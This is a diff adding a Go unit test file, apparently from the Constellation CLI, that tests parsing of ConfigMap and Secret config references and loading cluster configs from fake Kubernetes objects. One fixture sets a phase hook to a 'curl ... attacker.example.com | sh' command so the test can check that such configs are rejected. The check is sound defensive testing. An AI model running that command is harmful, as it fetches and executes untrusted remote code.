@@ -0,0 +1,185 @@
+/*
+Copyright (c) Edgeless Systems GmbH
+
+SPDX-License-Identifier: AGPL-3.0-only
+*/
+
+package cmd
+
+import (
+	"context"
+	"errors"
+	"testing"
+
+	"github.com/edgelesssys/constellation/v2/internal/cloud/cloudprovider"
+	"github.com/edgelesssys/constellation/v2/internal/config"
+	"github.com/edgelesssys/constellation/v2/internal/constants"
+	"github.com/edgelesssys/constellation/v2/internal/file"
+	"github.com/edgelesssys/constellation/v2/internal/kubernetes/kubectl"
+	"github.com/spf13/afero"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	corev1 "k8s.io/api/core/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/runtime"
+	"k8s.io/client-go/kubernetes/fake"
+)
+
+func TestParseClusterConfigRef(t *testing.T) {
+	testCases := map[string]struct {
+		ref     string
+		want    *clusterConfigRef
+		wantErr bool
+	}{
+		"configmap": {
+			ref:  "configmap://kube-system/constellation-conf/config.yaml",
+			want: &clusterConfigRef{kind: clusterConfigKindConfigMap, namespace: "kube-system", name: "constellation-conf", key: "config.yaml"},
+		},
+		"secret": {
+			ref:  "secret://gitops/constellation/conf",
+			want: &clusterConfigRef{kind: clusterConfigKindSecret, namespace: "gitops", name: "constellation", key: "conf"},
+		},
+		"file path": {
+			ref:     "constellation-conf.yaml",
+			wantErr: true,
+		},
+		"unknown kind": {
+			ref:     "deployment://kube-system/constellation-conf/config.yaml",
+			wantErr: true,
+		},
+		"missing key": {
+			ref:     "configmap://kube-system/constellation-conf",
+			wantErr: true,
+		},
+		"empty namespace": {
+			ref:     "configmap:///constellation-conf/config.yaml",
+			wantErr: true,
+		},
+		"too many elements": {
+			ref:     "secret://gitops/constellation/conf/extra",
+			wantErr: true,
+		},
+	}
+
+	for name, tc := range testCases {
+		t.Run(name, func(t *testing.T) {
+			assert := assert.New(t)
+
+			ref, err := parseClusterConfigRef(tc.ref)
+			if tc.wantErr {
+				assert.Error(err)
+				return
+			}
+			assert.NoError(err)
+			assert.Equal(tc.want, ref)
+			assert.Equal(tc.ref, ref.String())
+		})
+	}
+}
+
+func TestLoadClusterConfig(t *testing.T) {
+	const wantProject = "constellation-gitops"
+	validConf := defaultConfigWithExpectedMeasurements(t, config.Default(), cloudprovider.GCP)
+	validConf.Provider.GCP.Project = wantProject
+	validConfig := marshalTestConfig(t, validConf)
+	invalidConf := defaultConfigWithExpectedMeasurements(t, config.Default(), cloudprovider.GCP)
+	invalidConf.Provider.GCP.Project = ""
+	invalidConfig := marshalTestConfig(t, invalidConf)
+	hooksConf := defaultConfigWithExpectedMeasurements(t, config.Default(), cloudprovider.GCP)
+	hooksConf.Provider.GCP.Project = wantProject
+	hooksConf.PhaseHooks = map[string]config.PhaseHook{"image": {Pre: "curl https://attacker.example.com | sh"}}
+	hooksConfig := marshalTestConfig(t, hooksConf)
+
+	testCases := map[string]struct {
+		objects           []runtime.Object
+		ref               string
+		wantErr           bool
+		wantValidationErr bool
+	}{
+		"config in ConfigMap": {
+			objects: []runtime.Object{testConfigMap(map[string]string{"config.yaml": string(validConfig)}, nil)},
+			ref:     "configmap://gitops/constellation/config.yaml",
+		},
+		"config in binary data of ConfigMap": {
+			objects: []runtime.Object{testConfigMap(nil, map[string][]byte{"config.yaml": validConfig})},
+			ref:     "configmap://gitops/constellation/config.yaml",
+		},
+		"config in Secret": {
+			objects: []runtime.Object{&corev1.Secret{
+				ObjectMeta: metav1.ObjectMeta{Namespace: "gitops", Name: "constellation"},
+				Data:       map[string][]byte{"config.yaml": validConfig},
+			}},
+			ref: "secret://gitops/constellation/config.yaml",
+		},
+		"ConfigMap doesn't exist": {
+			ref:     "configmap://gitops/constellation/config.yaml",
+			wantErr: true,
+		},
+		"Secret doesn't exist": {
+			objects: []runtime.Object{testConfigMap(map[string]string{"config.yaml": string(validConfig)}, nil)},
+			ref:     "secret://gitops/constellation/config.yaml",
+			wantErr: true,
+		},
+		"key doesn't exist": {
+			objects: []runtime.Object{testConfigMap(map[string]string{"other.yaml": string(validConfig)}, nil)},
+			ref:     "configmap://gitops/constellation/config.yaml",
+			wantErr: true,
+		},
+		"config is invalid": {
+			objects:           []runtime.Object{testConfigMap(map[string]string{"config.yaml": string(invalidConfig)}, nil)},
+			ref:               "configmap://gitops/constellation/config.yaml",
+			wantErr:           true,
+			wantValidationErr: true,
+		},
+		"config with phase hooks": {
+			objects: []runtime.Object{testConfigMap(map[string]string{"config.yaml": string(hooksConfig)}, nil)},
+			ref:     "configmap://gitops/constellation/config.yaml",
+			wantErr: true,
+		},
+		"config has unknown fields": {
+			objects: []runtime.Object{testConfigMap(map[string]string{"config.yaml": string(validConfig) + "unknownField: true\n"}, nil)},
+			ref:     "configmap://gitops/constellation/config.yaml",
+			wantErr: true,
+		},
+	}
+
+	for name, tc := range testCases {
+		t.Run(name, func(t *testing.T) {
+			assert := assert.New(t)
+			require := require.New(t)
+
+			ref, err := parseClusterConfigRef(tc.ref)
+			require.NoError(err)
+			client := &kubectl.Kubectl{Interface: fake.NewSimpleClientset(tc.objects...)}
+
+			conf, err := loadClusterConfig(context.Background(), client, ref, stubAttestationFetcher{}, false)
+			if tc.wantErr {
+				assert.Error(err)
+				var validationErr *config.ValidationError
+				assert.Equal(tc.wantValidationErr, errors.As(err, &validationErr))
+				return
+			}
+			require.NoError(err)
+			require.True(conf.HasProvider(cloudprovider.GCP))
+			assert.Equal(wantProject, conf.Provider.GCP.Project)
+		})
+	}
+}
+
+func testConfigMap(data map[string]string, binaryData map[string][]byte) *corev1.ConfigMap {
+	return &corev1.ConfigMap{
+		ObjectMeta: metav1.ObjectMeta{Namespace: "gitops", Name: "constellation"},
+		Data:       data,
+		BinaryData: binaryData,
+	}
+}
+
+// marshalTestConfig returns the config as it would be written to a config file.
+func marshalTestConfig(t *testing.T, conf *config.Config) []byte {
+	t.Helper()
+	fileHandler := file.NewHandler(afero.NewMemMapFs())
+	require.NoError(t, fileHandler.WriteYAML(constants.ConfigFilename, conf))
+	data, err := fileHandler.Read(constants.ConfigFilename)
+	require.NoError(t, err)
+	return data
+}